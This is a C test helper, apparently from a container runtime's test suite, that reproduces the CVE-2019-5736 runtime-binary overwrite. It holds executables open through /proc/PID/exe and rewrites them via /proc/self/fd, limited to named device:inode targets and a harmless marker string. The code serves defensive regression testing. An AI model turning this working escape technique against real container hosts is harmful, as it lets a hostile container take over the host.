/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * overwrite DEVICE:INODE...: what a hostile container does to the program of its runtime (CVE-2019-5736).
 * Looks at every process that comes by, keeps a descriptor of its program, and writes to it through
 * /proc/self/fd as soon as nobody runs it; but only to the files that are named, so that a test which goes
 * wrong destroys nothing but its own copies.  Says for each what became of it.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { MAX = 16 };

static struct victim {
	unsigned long device, inode;
	int fd;
	bool tried;
} victims[MAX];
static int n_victims;

static struct victim *find(const struct stat *st)
{
	for (int i = 0; i < n_victims; i++)
		if (victims[i].device == st->st_dev && victims[i].inode == st->st_ino)
			return &victims[i];
	return NULL;
}

static void look(const char *pid)
{
	struct victim *v;
	char path[300];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	v = fstat(fd, &st) < 0 ? NULL : find(&st);
	if (v && v->fd < 0 && !v->tried)
		v->fd = fd;
	else
		close(fd);
}

static void attack(struct victim *v)
{
	char path[40];
	int fd;

	if (v->fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", v->fd);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 && errno == ETXTBSY)
		return; /* later */
	printf("%lu %s\n", v->inode, fd < 0 ? strerrorname_np(errno) : write(fd, "overwritten", 11) == 11 ? "overwritten" : "unwritten");
	fflush(stdout);
	if (fd >= 0)
		close(fd);
	close(v->fd);
	v->fd = -1;
	v->tried = true;
}

static void look_at_all(void)
{
	DIR *d = opendir("/proc");

	for (struct dirent *e = d ? readdir(d) : NULL; e; e = readdir(d))
		if (strspn(e->d_name, "0123456789") == strlen(e->d_name))
			look(e->d_name);
	if (d)
		closedir(d);
}

int main(int argc, char **argv)
{
	for (int i = 1; i < argc && i <= MAX; i++, n_victims++) {
		victims[n_victims].fd = -1;
		if (sscanf(argv[i], "%lu:%lu", &victims[n_victims].device, &victims[n_victims].inode) != 2)
			return 125;
	}
	puts("ready");
	fflush(stdout);
	for (;;) {
		look_at_all();
		for (int i = 0; i < n_victims; i++)
			attack(&victims[i]);
	}
}
